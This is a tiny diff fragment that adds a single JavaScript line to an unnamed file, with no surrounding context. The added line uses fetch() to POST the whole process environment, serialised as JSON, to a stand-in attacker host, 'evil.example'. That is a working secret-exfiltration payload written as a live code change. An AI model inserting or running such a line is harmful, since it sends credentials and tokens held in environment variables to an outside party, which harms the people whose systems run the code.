@@ -1,0 +1,1 @@
+fetch('https://evil.example/c', {method: 'POST', body: JSON.stringify(process.env)})
